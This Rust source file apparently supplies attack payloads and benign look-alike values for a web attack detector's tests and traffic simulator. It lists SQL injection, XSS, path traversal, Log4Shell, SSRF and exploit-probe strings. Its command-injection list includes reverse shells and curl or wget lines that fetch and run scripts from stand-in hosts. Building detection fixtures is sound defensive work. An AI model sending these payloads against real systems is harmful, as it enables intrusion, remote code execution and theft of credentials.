//! Attack payloads per category and realistic benign values, for tests and for the traffic
//! simulator. Payloads are written as they arrive on the wire (some percent-encoded);
//! [`attacks`] and [`benign`] wrap them into requests.

use crate::event::Category;
use crate::record::{Format, Request};
use std::borrow::Cow;

/// SQL injection payloads, as a query parameter value.
pub const SQLI: &[&str] = &[
    "' or '1'='1",
    "' or 1=1--",
    "' OR 1=1 -- -",
    "\" or \"\"=\"",
    "\" OR 1=1 #",
    "admin'--",
    "admin' #",
    "admin'/*",
    "1' or '1'='1' --",
    "') or ('a'='a",
    "')) or (('x'='x",
    "1 OR 1=1",
    "1 AND 1=2",
    "-1 OR 2>1",
    "1) or (1=1",
    "' or 'x'='x",
    "'or''='",
    "' || '1'='1",
    "' or true--",
    "' or username like '%admin%",
    "1' AND 1=(SELECT COUNT(*) FROM users)--",
    "' UNION SELECT NULL,NULL--",
    "1 UNION ALL SELECT username,password FROM users",
    "-1' union select 1,2,group_concat(table_name) from information_schema.tables--+",
    "1/**/UNION/**/SELECT/**/1,2,3",
    "/*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2",
    "0 uNiOn sElEcT user(),version()",
    "1%27%20UNION%20SELECT%20password%20FROM%20users--",
    "%2527%2520or%25201%253D1--",
    "1; DROP TABLE users",
    "1'; DROP TABLE users--",
    "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "1;SELECT pg_sleep(5)",
    "'; INSERT INTO users VALUES('x','y')--",
    "';shutdown--",
    "1 AND SLEEP(5)",
    "1' AND SLEEP(5)#",
    "' or sleep(5)#",
    "1 or benchmark(10000000,MD5(1))#",
    "1' WAITFOR DELAY '0:0:5'--",
    "1) AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
    "if(now()=sysdate(),sleep(5),0)",
    "' AND EXTRACTVALUE(1,CONCAT(0x5c,version()))-- ",
    "1 AND updatexml(1,concat(0x7e,(select user())),1)",
    "' AND 1=CONVERT(int,@@version)--",
    "1' ORDER BY 3--+",
    "1 ORDER BY 10",
    "' HAVING 1=1 --",
    "' GROUP BY users.id HAVING 1=1--",
    "1' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>116--",
    "1 procedure analyse()",
    "%27%20OR%20%271%27%3D%271",
    "1%20AND%201%3D1",
    "' AnD 'a'<>'b",
    "x' AND 1=0 UNION SELECT @@datadir--",
];

/// Cross-site scripting payloads, as a query parameter value.
pub const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT>alert(document.cookie)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "\"><script>alert(1)</script>",
    "'><script>alert(String.fromCharCode(88,83,83))</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert('xss')>",
    "<img/src=x onerror=prompt(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<div style=\"width:expression(alert(1))\">",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) x=\"",
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "java%09script:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "';alert(1)//",
    "\";alert(1)//",
    "'-alert(1)-'",
    "'+prompt`1`+'",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%3Csvg%2Fonload%3Dalert(1)%3E",
    "%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B",
    "%26%2360%3Bimg src=x onerror=alert(1)%26%2362%3B",
    "{{constructor.constructor('alert(1)')()}}",
    "<xss onmouseover=alert(1)>hover</xss>",
    "<scr%00ipt>alert(1)</scr%00ipt>",
];

/// Path traversal attempts: full paths (as requested, still encoded).
pub const TRAVERSAL_PATHS: &[&str] = &[
    "/../../../../etc/passwd",
    "/static/../../../etc/shadow",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/%252e%252e/%252e%252e/etc/passwd",
    "/%%32%65%%32%65/",
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd",
    "/%e0%80%ae%e0%80%ae/etc/passwd",
    "/..%5c..%5c..%5cwindows%5cwin.ini",
    "/..%255c..%255cboot.ini",
    "/images/..%2f..%2f..%2fetc%2fpasswd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/icons/.%2e/%2e%2e/%2e%2e/etc/passwd",
    "/console/css/%252e%252e%252fconsole.portal",
    "/app/..;/manager/html",
    "/%u002e%u002e/%u002e%u002e/etc/passwd",
    "/..\\..\\..\\windows\\system.ini",
    "/static/%2e%2e%5c%2e%2e%5cweb.config",
];

/// Path traversal attempts: query parameter values.
pub const TRAVERSAL_VALUES: &[&str] = &[
    "../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..\\..\\..\\boot.ini",
    "../../../../etc/passwd%00.png",
    "../../../proc/self/environ",
    "../.env",
];

/// Command injection payloads, as query values.
pub const CMDI: &[&str] = &[
    ";wget http://203.0.113.5/x.sh",
    "cd+/tmp;rm+-rf+*;wget+a.example.tk/jaws;sh+/tmp/jaws",
    "127.0.0.1;cat /etc/passwd",
    "127.0.0.1 | id",
    "127.0.0.1 && whoami",
    "x||curl http://203.0.113.5/p|sh",
    "`id`",
    "`whoami`",
    "$(id)",
    "$(curl http://attacker.example/x)",
    ";ping%20%24%28whoami%29.test.com",
    "a;ls -la",
    "1;sleep 10",
    "%0aid",
    "%0Acat%20/etc/passwd",
    ";${IFS}cat${IFS}/etc/passwd",
    "|nc -e /bin/sh 203.0.113.5 4444",
    ";busybox wget http://x/mozi.m",
    "; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "|powershell -enc SQBFAFgA",
    "& ping -n 5 127.0.0.1 &",
    ";uname -a;",
    "';python -c 'import os'",
];

/// Log4Shell JNDI lookups, as user agents (also used in query values).
pub const JNDI: &[&str] = &[
    "${jndi:ldap://203.0.113.5:1389/a}",
    "${jndi:ldap://${java:version}.domain/a}",
    "${jndi:rmi://x.example/o}",
    "${jndi:dns://x.example/o}",
    "${${lower:j}ndi:${lower:l}dap://x.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}",
    "${j${k8s:k5:-ND}i:ldap://x.example/a}",
    "${${upper:j}ndi:ldap://x.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}",
    "${${lower:jndi}:${lower:rmi}://x.example/a}",
    "${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
    "Mozilla/5.0 ${jndi:ldap://x.example/a}",
    "${jndi:ldaps://x.example/a}",
    "${jndi:iiop://x.example/a}",
    "${jndi:nis://x.example/a}",
    "${jndi:corba://x.example/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
    "${${sys:foo:-j}ndi:ldap://x.example/a}",
    "${jnd${upper:ı}:ldap://x.example/a}",
];

/// SSRF payloads, as query values (`url=`, `dest=`, …).
pub const SSRF: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials",
    "http://100.100.100.200/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stat",
    "file:///etc/passwd",
    "http%253A%252F%252F169.254.169.254%252F",
    "https://evil.example@169.254.169.254/",
    "http://metadata.google.internal./computeMetadata/v1/",
    "HTTP://169.254.169.254/LATEST/META-DATA/",
];

/// Sensitive files: paths.
pub const SENSITIVE_PATHS: &[&str] = &[
    "/.env",
    "/.env.production",
    "/api/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.htpasswd",
    "/.aws/credentials",
    "/.awscfg",
    "/.ssh/id_rsa",
    "/id_rsa",
    "/home/user/.ssh/id_ed25519",
    "/wp-config.php",
    "/wp-config.php.bak",
    "/wp-config.old",
    "/config.php.bak",
    "/index.php~",
    "/.index.php.swp",
    "/backup.sql",
    "/dump.sql.gz",
    "/backup.zip",
    "/www.tar.gz",
    "/site.rar",
    "/etc/passwd",
    "/.DS_Store",
    "/.vscode/sftp.json",
    "/WEB-INF/web.xml",
    "/.docker/config.json",
];

/// Admin panels and known-CVE probes: path with optional `?query`.
pub const PROBES: &[&str] = &[
    "/phpmyadmin/",
    "/phpMyAdmin/scripts/setup.php",
    "/pma/index.php",
    "/wp-login.php",
    "/wp-login.php?action=register",
    "/wordpress/wp-admin/",
    "/administrator/index.php",
    "/cgi-bin/luci",
    "/cgi-bin/login.cgi",
    "/remote_agent.php?action=polldata&poller_id=1",
    "/index.action?redirect:%24%7B%28%23a%3D1%29%7D",
    "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/",
    "/login.action?x=%25%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%29%7D",
    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "/actuator/env",
    "/actuator/heapdump",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/GponForm/diag_Form?images/",
    "/shell?cd+/tmp;rm+-rf+*",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/_ignition/execute-solution",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array",
    "/manager/html",
    "/solr/admin/cores?action=STATUS",
    "/autodiscover/autodiscover.json?@zdi/Powershell",
    "/mgmt/tm/util/bash",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/php-cgi/php-cgi.exe?%add+allow_url_include%3d1",
];

/// Scanner and attack-tool user agents.
pub const SCANNER_UAS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36 Nuclei",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21 Acunetix-Product",
    "Mozilla/5.0 (compatible; Nessus)",
    "Nessus SOAP",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "ffuf/2.0",
    "Mozilla/5.0 (Hydra)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) w3af.org",
    "Mozilla/5.0 (compatible; Netsparker)",
    "Arachni/v1.5.1",
    "Wfuzz/3.1.0",
    "Mozilla/5.0 (compatible; Zmeu)",
    "feroxbuster/2.10.0",
    "WhatWeb/0.5.5",
];

/// Benign query values: searches with quotes and SQL words, names with apostrophes, JSON,
/// base64, redirect URLs, math, code snippets, dates, ids.
pub const BENIGN_VALUES: &[&str] = &[
    "shoes", "red shoes", "running shoes size 10", "O'Brien", "O'Neil or O'Brien",
    "d'Artagnan", "Mary-Jane O'Connor", "L'Oréal shampoo", "rock 'n' roll",
    "don't stop believing", "it's 5 o'clock somewhere", "Guns N' Roses", "McDonald's menu",
    "\"exact phrase\"", "\"new york\" hotels", "'quoted'", "select", "select comfort mattress",
    "union jack flag", "Union Pacific", "credit union near me", "order by price",
    "drop earrings", "drop shipping", "table lamp", "delete account", "insert coin",
    "update firmware", "where is my order", "from paris with love", "group by",
    "having fun", "1=1", "2+2=4", "x < 5", "a<b", "i <3 you", "x > 1 and y < 2",
    "5 > 3 and 2 < 4", "3 or 4 bedrooms", "black or white", "salt & pepper",
    "Tom & Jerry", "fish and chips", "rock and roll", "this or that", "yes/no",
    "C++ tutorial", "C# async await", "F# vs OCaml", "node.js", "100% cotton",
    "50% off", "#hashtag", "#1 best seller", "--verbose", "-rf", "foo;bar",
    "color:red;font-size:12px", "key=value", "a=b;c=d", "user@example.com",
    "first.last+tag@example.co.uk", "@username", "price:[10 TO 100]", "title:(foo OR bar)",
    "{\"id\":1,\"name\":\"x\"}", "{\"filter\":{\"status\":\"active\",\"tags\":[\"a\",\"b\"]}}",
    "[1,2,3]", "{\"q\":\"O'Reilly\"}", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
    "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ",
    "SGVsbG8sIFdvcmxkIQ==", "dGVzdA==", "YWJjZGVmZ2hpams=",
    "https://www.example.com/account?tab=orders", "https%3A%2F%2Fexample.com%2Fcallback",
    "/account/settings", "/checkout/step/2", "../account", "http://localhost:3000/",
    "https://accounts.google.com/o/oauth2/auth", "mailto:sales@example.com",
    "tel:+1-555-0100", "2024-01-15", "2024-01-15T10:30:00Z", "15/01/2024", "10:30",
    "1700000000", "1700000000123", "-73.9857", "40.7484,-73.9857", "1.5e10", "0x1F",
    "#ff0000", "rgb(255, 0, 0)", "sin(x) + cos(y)", "(a+b)*(c-d)", "f(x) = x^2 + 1",
    "sqrt(16) = 4", "if (a > b) { return a; }", "for (i = 0; i < n; i++)",
    "SELECT * FROM users WHERE id = ?", "import time; time.sleep(5)", "$(document).ready()",
    "console.log('hi')", "print(\"hello world\")", "x => x * 2", "a && b || c",
    "git commit -m 'fix'", "ls -la", "npm install --save react", "pip install requests",
    "docker run -p 80:80 nginx", "kubectl get pods -n default", "echo $HOME",
    "SELECT count(*) FROM orders", "sum(a, b)", "Array<String>", "Vec<u8>",
    "std::vector<int>", "Map<String, List<Integer>>", "<b>bold</b>", "<br>",
    "<p>Hello</p>", "<em>note</em>", "1 < 2", "<= 10", ">= 5", "a <> b",
    "javascript: the good parts", "javascript tutorial", "java script", "onload event",
    "on sale", "online shopping", "turn on=off", "once upon a time", "script writing",
    "iframe vs embed", "alert system", "prompt engineering", "eval metrics",
    "Ben & Jerry's", "AT&T", "Q&A", "R&D", "M&M's", "Procter & Gamble",
    "naïve café", "Ελληνικά", "日本語", "русский", "مرحبا", "😀 emoji",
    "version 1.2.3", "v1..2", "Loading...", "wait...", "etc.", "/etc/hosts file format",
    "my etc folder", "passwd command", "shell scripting", "bash vs zsh", "wget vs curl",
    "cat videos", "funny cats", "ping pong table", "id card", "the rm command",
    "sleep music", "python tutorial", "perl regex", "ruby on rails",
    "cd player", "sh*t happens", "ls models", "ps5 console", "pwd reset",
    "me; myself & I", "A;B;C", "semi;colon", "pipe|delimited", "a|b|c", "1|2",
    "`code`", "``", "`", "${name}", "${HOME}/bin", "price ${5}", "%s %d", "{{name}}",
    "{{ user.name }}", "[[wiki]]", "<%= erb %>", "\\n", "C:\\Users\\me", "C:\\Program Files",
    "\\\\server\\share", "file.txt", "report.pdf", "archive.zip", "photo.jpg",
    "backup strategy", "env vars", ".env file format", "git config tips", "dotfiles",
    "admin panel design", "phpmyadmin tutorial", "cgi bin meaning", "metadata",
    "google internal tools", "169 254", "AWS metadata service explained", "ssrf",
    "sql injection", "xss attack", "union select tutorial", "' ", "''", "\"\"", "'",
    "\"", "it''s", "5'10\"", "6' 2\"", "12\" pizza", "3' x 5' rug", "The \"best\" one",
    "He said \"hi\"", "'single' and \"double\"", "O'Reilly Media", "Hawai'i",
    "ma'am", "y'all", "ne'er-do-well", "'90s music", "rock'n'roll", "don't", "can't",
    "won't or can't", "isn't it", "Levi's 501", "Dr. Martens", "St. John's wort",
    "Children's books", "Women's shoes", "Men's jackets", "Harry Potter and the Sorcerer's Stone",
    "The Hitchhiker's Guide", "Schindler's List", "Ocean's Eleven", "Charlotte's Web",
    "top 10", "limit 5", "order 66", "group 3", "table for 2", "drop 5 pounds",
    "1 or 2 people", "2 and 3", "10 or more", "5 and up", "1-2 days", "3-5 business days",
    "id=5", "page=2", "sort=price_asc", "asc", "desc", "null", "true", "false", "NaN",
    "undefined", "0", "-1", "999999", "3.14159", "1e-9", "+1", "++", "--", "-",
    "a-b", "a--b", "---", "***", "...", "!!!", "???", "~", "~user", "^", "a^b",
    "(", ")", "()", "(1)", "(a, b)", "[", "]", "{}", "<", ">", "<>", "=", "==",
    "!=", "=>", "->", "::", ";", ";;", "&&", "||", "|", "&", "#", "@", "$", "%",
    "utf-8", "en-US", "en_GB", "fr-CA,fr;q=0.9", "text/html,application/xhtml+xml",
    "gzip, deflate, br", "no-cache", "max-age=0", "bytes=0-1023", "keep-alive",
    "session_abc123", "a1b2c3d4e5f6", "550e8400-e29b-41d4-a716-446655440000",
    "ABC-123-XYZ", "SKU#12345", "order #1001", "ticket-4521", "INV/2024/001",
    "Apt. 4B", "123 Main St.", "P.O. Box 42", "New York, NY 10001", "São Paulo",
    "Zürich", "Kraków", "Москва", "北京", "+1 (555) 010-0199", "(555) 010-0199",
    "how do i select all in excel", "how to drop a column in pandas",
    "how to union two sets in python", "delete from list python",
    "update where join sql server", "insert into select", "what is 1=1 in sql",
    "' or '' does not work in excel", "why is my <div> not centered",
    "<script> tag placement", "onclick vs addEventListener", "how to alert in js",
    "difference between == and ===", "x = y ? a : b", "a ?? b", "a?.b",
    "SELECT name FROM t ORDER BY name", "select * from a union select * from b",
    "1 union 2", "ABBA - The Winner Takes It All", "AC/DC", "Earth, Wind & Fire",
    "Simon & Garfunkel", "Mumford & Sons", "Florence + the Machine", "P!nk", "Ke$ha",
    "will.i.am", "M*A*S*H", "Se7en", "WALL·E", "Amélie", "Léon: The Professional",
    "Alien³", "Ocean's 8", "Don't Look Up", "Knives Out", "It's a Wonderful Life",
];

/// Benign paths, some with queries, as requested.
pub const BENIGN_PATHS: &[&str] = &[
    "/", "/index.html", "/favicon.ico", "/robots.txt", "/sitemap.xml", "/about",
    "/contact-us", "/blog/2024/01/15/hello-world", "/blog/tags/sysadmin",
    "/products/red-shoes-size-10", "/products/12345", "/api/v1/users/42",
    "/api/v2/orders?status=open&page=2", "/search?q=red+shoes", "/search?q=O%27Brien",
    "/search?q=%22exact+phrase%22", "/search?q=select+comfort", "/search?q=union+jack",
    "/search?q=rock+%27n%27+roll", "/search?q=x+%3C+5", "/search?q=Tom+%26+Jerry",
    "/static/js/app.3f2a1b.js", "/static/css/main.css?v=1.2.3", "/assets/img/logo@2x.png",
    "/images/photo.jpg", "/fonts/roboto-v20-latin-regular.woff2", "/downloads/tool-1.2.zip",
    "/downloads/release-2.0.tar.gz", "/docs/v1.2/getting-started", "/docs/v1..2/notes",
    "/wiki/Main_Page", "/wiki/New_multiboxer%27s_guide", "/wiki/C%2B%2B",
    "/wiki/Caf%C3%A9", "/wiki/%E6%97%A5%E6%9C%AC", "/user/~alice/", "/~bob/index.html",
    "/cart;jsessionid=ABC123DEF456", "/login", "/logout", "/signup", "/account/settings",
    "/account/orders/1001", "/checkout/step/2", "/oauth/callback?code=abc&state=xyz",
    "/auth/login?redirect=%2Faccount%2Fsettings",
    "/redirect?url=https%3A%2F%2Fwww.example.com%2Fpage",
    "/track?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
    "/api/search?filter=%7B%22status%22%3A%22active%22%7D",
    "/api/items?ids[]=1&ids[]=2&ids[]=3", "/graphql", "/graphql?query=%7Bviewer%7Blogin%7D%7D",
    "/ws/chat", "/healthz", "/health", "/status", "/metrics", "/ping", "/version",
    "/.well-known/acme-challenge/abc123", "/.well-known/security.txt",
    "/.well-known/openid-configuration", "/feed.xml", "/rss", "/atom.xml",
    "/presentations/logstash-monitorama-2013/images/kibana-search.png",
    "/projects/xdotool/", "/articles/dynamic-dns-with-dhcp/", "/reset.css",
    "/blog/geekery/ec2-reserved-vs-ondemand.html", "/files/report-2024-Q1.pdf",
    "/files/Budget%20(final).xlsx", "/media/video.mp4?t=120", "/embed/abc?autoplay=1",
    "/maps?ll=40.7484,-73.9857&z=15", "/calc?expr=2%2B2%3D4", "/calc?expr=(a%2Bb)*c",
    "/forum/thread/42?post=SELECT+*+FROM+users+WHERE+id+%3D+%3F",
    "/forum/thread/43?post=if+(a+%3E+b)+%7B+return+a%3B+%7D",
    "/forum/search?q=onclick+vs+addEventListener", "/forum/search?q=%3Cdiv%3E+centering",
    "/shop/category/men's-jackets", "/shop/brand/levi's", "/product/5'10%22-mannequin",
    "/p/AT%26T-phone", "/tags/c%23", "/tags/f%23", "/tags/.net", "/tags/node.js",
    "/en-us/docs", "/fr/accueil", "/de/%C3%BCber-uns", "/ja/%E4%BC%9A%E7%A4%BE",
    "/index.php?page=home", "/index.php?option=com_content&view=article&id=5",
    "/wp-content/themes/twentytwenty/style.css", "/wp-content/uploads/2024/01/photo.jpg",
    "/wp-json/wp/v2/posts", "/admin/dashboard", "/admin/users?page=3",
    "/api/v1/admin/settings", "/environment", "/environments/prod", "/gitlab/help",
    "/github-stats", "/.github-ci", "/etc-services", "/backup-policy", "/old-site-notes",
    "/sql-tutorial", "/sql/select-statement", "/blog/union-select-explained",
    "/blog/what-is-xss", "/blog/path-traversal-101", "/security/ssrf-guide",
    "/shell-scripting-basics", "/shell", "/bin-collection-days", "/cgi-info",
    "/api/exec-summary", "/proc-management", "/passwd-reset", "/config",
    "/settings.json", "/manifest.json", "/service-worker.js", "/sw.js",
    "/app.js.map", "/vendor.js", "/vendor/bootstrap/css/bootstrap.min.css",
    "/a/b/c/d/e/f/g/h", "/very/long/path/with/many/segments/and-a-file.html",
    "/path/with%20space", "/path/with+plus", "/path/with%2Fslash", "/a,b,c", "/a;b",
    "/a:b", "/@user", "/$price", "/!important", "/(parens)", "/[brackets]",
    "/search?q=%24%7Bname%7D", "/search?q=%7B%7Bname%7D%7D", "/search?q=1%3D1",
    "/search?q=50%25+off", "/search?q=100%25", "/search?q=%25", "/search?q=a%25b",
    "/search?q=javascript%3A+the+good+parts", "/search?q=drop+earrings&sort=price",
    "/search?q=it%27s+5+o%27clock", "/search?q=%22he+said+%27hi%27%22",
    "/static/app.js?v=2024.01.15", "/img/a.png?w=200&h=100&fit=crop",
    "/api/v1/geo?lat=40.7&lon=-73.9", "/api/v1/range?from=2024-01-01&to=2024-01-31",
    "/api/v1/time?ts=1700000000123", "/api/v1/sign?sig=dGVzdA%3D%3D",
    "/api/v1/token?jwt=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
];

/// Benign user agents.
pub const BENIGN_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "curl/8.4.0", "curl/7.46.0", "Wget/1.21.4", "python-requests/2.31.0",
    "python-httpx/0.25.2", "Go-http-client/1.1", "Go-http-client/2.0",
    "okhttp/4.12.0", "Java/17.0.9", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "axios/1.6.2", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "PostmanRuntime/7.36.0", "insomnia/8.4.5", "ELB-HealthChecker/2.0",
    "kube-probe/1.28", "Prometheus/2.48.0", "Datadog Agent/7.49.1",
    "Amazon CloudFront", "Amazon Route 53 Health Check Service; ref:abc",
    "GoogleHC/1.0", "Azure Traffic Manager Endpoint Monitor", "UptimeRobot/2.0",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.289 Version/12.00",
    "Mozilla/5.0 (PlayStation 5 3.10) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/538.1 (KHTML, like Gecko) Version/6.0 TV Safari/538.1",
    "Dalvik/2.1.0 (Linux; U; Android 11; SM-G991B Build/RP1A.200720.012)",
    "MyApp/3.2.1 (iPhone; iOS 17.1; Scale/3.00)", "Hello, world", "-",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0 \"quoted\"",
    "msnbot/2.0b (+http://search.msn.com/msnbot.htm)",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers; )",
    "Tiny Tiny RSS/1.15.3 (http://tt-rss.org/)", "UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/",
    "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)",
    "Screaming Frog SEO Spider/19.4", "Lynx/2.8.9rel.1 libwww-FM/2.14",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "WhatsApp/2.23.20.0", "TelegramBot (like TwitterBot)", "LinkedInBot/1.0",
    "Grammarly/1.0", "Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0 (.NET CLR 3.5.30729)",
    "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36",
];

/// Benign referrers.
pub const BENIGN_REFERRERS: &[&str] = &[
    "https://www.google.com/", "https://www.google.com/search?q=red+shoes",
    "https://www.google.com/search?q=O%27Brien+pub", "https://www.bing.com/search?q=select+comfort",
    "https://duckduckgo.com/?q=union+jack&ia=web", "https://www.example.com/",
    "https://www.example.com/products/12345", "https://www.example.com/search?q=%22exact+phrase%22",
    "https://t.co/abc123", "https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.example.com%2F&h=AT0",
    "https://news.ycombinator.com/item?id=38000000", "https://www.reddit.com/r/rust/comments/abc/what_s_new/",
    "android-app://com.google.android.gm/", "https://mail.google.com/", "http://localhost:3000/",
    "https://stackoverflow.com/questions/123/how-to-select-all-in-sql",
